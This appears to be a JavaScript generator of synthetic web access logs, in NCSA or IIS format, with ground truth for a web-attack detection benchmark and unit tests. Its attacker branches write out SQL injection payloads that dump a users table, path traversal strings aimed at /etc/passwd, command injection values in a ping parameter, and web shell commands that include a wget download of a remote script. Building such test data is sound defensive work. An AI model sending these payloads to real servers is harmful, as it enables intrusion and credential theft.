// Web-attack scenarios with ground truth, for the detection accuracy bench and the unit tests:
// one public web server's access log (NCSA combined or IIS W3C, by seed) with ordinary visitors,
// crawlers, the benign look-alikes an investigator meets (searches for "select chair", a product
// called union-jack-flag, "../" in a Referer, a thumbnail script under /uploads used by every
// visitor, an administrator's uploads) and one to three attackers drawn from: a scanner (tool
// agent or a 404 storm), an sqlmap run that dumps a table, a path traversal, a command
// injection, an upload then a web shell (commands in the query, or POSTs only).
// Truth: attacker addresses, web shell paths, attackers with a success.
import { lcg } from '../seeded-random.mjs';
/** The LCG with its seed spread first (seeds here are small consecutive numbers). */
export function rng(seed) {
  return lcg((seed * 2654435761) >>> 0 || 1);
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 13_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.5 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148',
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
];
const CRAWLERS = ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'];
const SEARCHES = ['select chair', 'union jack flag', 'office chair', 'order by price', "kids' table", 'drop leaf table', 'select+all+colors', '和室 椅子'];
const SLUGS = ['union-jack-flag', 'oak-table', 'select-chair-deluxe', 'lamp-01', 'sofa-grey', 'drop-table-leaf'];
const SHELLS = ['cmd.php', 'x.php', 'img_2291.php', 'shell.aspx', 'up.jsp', 'config.php'];
const DIRS = ['uploads', 'images/uploads', 'tmp', 'wp-content/uploads/2026/11', 'files'];

export function generateWebScenario(seed) {
  const r = rng(seed);
  const pick = (a) => a[Math.floor(r() * a.length)];
  const int = (lo, hi) => lo + Math.floor(r() * (hi - lo + 1));
  const start = Date.UTC(2026, 10, 3, 0, 0, 0) + int(0, 86400) * 1000;
  const reqs = [];
  const ip = () => `${pick([198, 203, 45, 91, 185, 77])}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`;
  const add = (t, c, method, url, status, bytes, ua, ref = '-') => reqs.push({ t, c, method, url, status, bytes, ua, ref });
  const productSize = new Map();
  const sizeOf = (id) => (productSize.has(id) ? productSize.get(id) : (productSize.set(id, int(4200, 6100)), productSize.get(id)));
  const span = 6 * 3600_000;

  // Ordinary visitors.
  const visitors = int(15, 50);
  for (let v = 0; v < visitors; v++) {
    const c = ip();
    const ua = pick(BROWSERS);
    let t = start + int(0, span);
    for (let n = int(4, 30); n > 0; n--) {
      t += int(2, 90) * 1000;
      const k = r();
      if (k < 0.3) { const id = int(1, 40); add(t, c, 'GET', `/products.php?id=${id}`, 200, sizeOf(id), ua, 'https://shop.example/'); }
      else if (k < 0.45) add(t, c, 'GET', `/search.php?q=${encodeURIComponent(pick(SEARCHES)).replace(/%20/g, '+')}`, 200, int(3000, 3600), ua);
      else if (k < 0.55) add(t, c, 'GET', `/product/${pick(SLUGS)}`, 200, int(7000, 7600), ua, 'https://shop.example/catalog/../sale/');
      else if (k < 0.65) add(t, c, 'GET', `/uploads/thumb.php?img=${int(100, 999)}.jpg&w=200`, 200, int(9000, 15000), ua);
      else if (k < 0.72) add(t, c, 'GET', `/download.php?file=manual-${int(1, 9)}.pdf`, 200, int(80000, 90000), ua);
      else if (k < 0.78) add(t, c, 'GET', `/ping.php?host=shop.example`, 200, int(600, 700), ua);
      else if (k < 0.8) add(t, c, 'GET', `/old-page-${int(1, 9)}.html`, 404, 512, ua);
      else add(t, c, 'GET', pick(['/', '/index.php', '/static/site.css', '/images/logo.png']), 200, int(1500, 20000), ua);
    }
  }
  // Crawlers walking old links (404s) quickly: not a scan.
  for (const ua of CRAWLERS) {
    const c = ip();
    let t = start + int(0, span);
    for (let n = 0; n < 40; n++) add((t += int(1, 8) * 1000), c, 'GET', `/archive/2019/item-${int(1, 500)}.html`, pick([404, 404, 200, 301]), int(300, 9000), ua);
  }
  // An administrator uploading product photos (POSTs to the upload form; no script in /uploads).
  const admin = ip();
  let ta = start + int(0, span);
  for (let n = int(3, 8); n > 0; n--) {
    add((ta += int(20, 200) * 1000), admin, 'POST', '/admin/upload.php', 302, 0, BROWSERS[0]);
    add((ta += 2000), admin, 'GET', `/uploads/photo-${int(1, 999)}.jpg`, 200, int(50000, 90000), BROWSERS[0]);
  }

  const truth = { attackers: [], webshells: [], succeeded: [] };
  const kinds = ['scan', 'sqlmap', 'traversal', 'cmdi', 'shell'];
  const chosen = new Set();
  for (let a = int(1, 3); a > 0; a--) chosen.add(pick(kinds));
  for (const kind of chosen) {
    const c = ip();
    truth.attackers.push(c);
    let t = start + int(0, span);
    const next = (s = int(1, 4)) => (t += s * 1000);
    if (kind === 'scan') {
      const tool = r() < 0.5;
      const ua = tool ? pick(['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'gobuster/3.6']) : pick(BROWSERS);
      for (let n = int(40, 120); n > 0; n--) add(next(1), c, 'GET', `/${pick(['admin', 'backup', '.git', 'wp-login', 'phpmyadmin', 'old', 'test', 'config', 'db', 'api'])}${int(0, 999)}${pick(['', '.php', '.bak', '.zip', '/'])}`, 404, int(200, 600), ua);
    } else if (kind === 'sqlmap') {
      const ua = r() < 0.6 ? 'sqlmap/1.7.11#stable (https://sqlmap.org)' : pick(BROWSERS);
      const id = int(1, 40);
      const payloads = [`${id}'`, `${id} AND 1=1`, `${id} AND 2=3`, `${id}' AND SLEEP(5)-- -`, `${id} ORDER BY 1-- -`, `${id} ORDER BY 9-- -`, `${id} UNION ALL SELECT NULL,NULL,NULL-- -`];
      for (const p of payloads) add(next(), c, 'GET', `/products.php?id=${encodeURIComponent(p)}`, pick([200, 200, 500]), sizeOf(id) + int(-50, 50), ua);
      const ok = r() < 0.75;
      add(next(), c, 'GET', `/products.php?id=${encodeURIComponent(`-${id} UNION ALL SELECT CONCAT(0x71,username,0x3a,password),NULL,NULL FROM users-- -`)}`, ok ? 200 : 403, ok ? sizeOf(id) + int(20000, 60000) : 300, ua);
      if (ok) truth.succeeded.push(c);
    } else if (kind === 'traversal') {
      const ua = pick(BROWSERS);
      const tries = ['../../../../etc/passwd', '..%2f..%2f..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini'];
      const ok = r() < 0.6;
      tries.forEach((p, i) => {
        const hit = ok && i === 1;
        add(next(), c, 'GET', `/download.php?file=${p}`, hit ? 200 : pick([400, 404, 403]), hit ? int(1800, 2600) : 300, ua);
      });
      if (ok) truth.succeeded.push(c);
    } else if (kind === 'cmdi') {
      const ua = pick(BROWSERS);
      const ok = r() < 0.6;
      for (const p of ['shop.example;id', 'shop.example|whoami', 'shop.example%26%26cat+/etc/passwd']) {
        add(next(), c, 'GET', `/ping.php?host=${p}`, ok ? 200 : 403, ok ? int(2500, 4000) : 280, ua);
      }
      if (ok) truth.succeeded.push(c);
    } else {
      const ua = pick(BROWSERS);
      const shell = `/${pick(DIRS)}/${pick(SHELLS)}`;
      add(next(), c, 'GET', '/upload.php', 200, 2100, ua);
      add(next(), c, 'POST', '/upload.php', 200, 450, ua);
      if (r() < 0.6) {
        for (const cmd of ['whoami', 'id', 'uname -a', 'cat /etc/passwd', 'ls -la /var/www', 'wget http://203.0.113.9/x.sh -O /tmp/x.sh']) {
          add(next(int(5, 40)), c, 'GET', `${shell}?cmd=${encodeURIComponent(cmd)}`, 200, int(50, 3000), ua);
        }
      } else {
        for (let n = int(4, 12); n > 0; n--) add(next(int(5, 60)), c, 'POST', shell, 200, int(20, 900), ua);
      }
      truth.webshells.push(shell);
      truth.succeeded.push(c);
    }
  }
  reqs.sort((a, b) => a.t - b.t);
  const iis = r() < 0.4;
  return { lines: iis ? iisLines(reqs) : ncsaLines(reqs), format: iis ? 'iis' : 'ncsa', truth };
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n) => String(n).padStart(2, '0');

function ncsaLines(reqs) {
  return reqs.map((q) => {
    const d = new Date(q.t);
    const ts = `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
    return `${q.c} - - [${ts}] "${q.method} ${q.url} HTTP/1.1" ${q.status} ${q.bytes} "${q.ref}" "${q.ua}"`;
  });
}

function iisLines(reqs) {
  const head = ['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', '#Date: 2026-11-03 00:00:00', '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken'];
  return [
    ...head,
    ...reqs.map((q) => {
      const d = new Date(q.t).toISOString();
      const [stem, query] = q.url.includes('?') ? [q.url.slice(0, q.url.indexOf('?')), q.url.slice(q.url.indexOf('?') + 1)] : [q.url, '-'];
      const sp = (s) => (s === '-' ? '-' : s.replace(/ /g, '+'));
      return `${d.slice(0, 10)} ${d.slice(11, 19)} 10.0.0.5 ${q.method} ${stem.replace(/ /g, '%20')} ${query.replace(/ /g, '+')} 443 - ${q.c} ${sp(q.ua)} ${sp(q.ref)} ${q.status} 0 0 ${q.bytes} ${10 + (q.bytes % 90)}`;
    }),
  ];
}
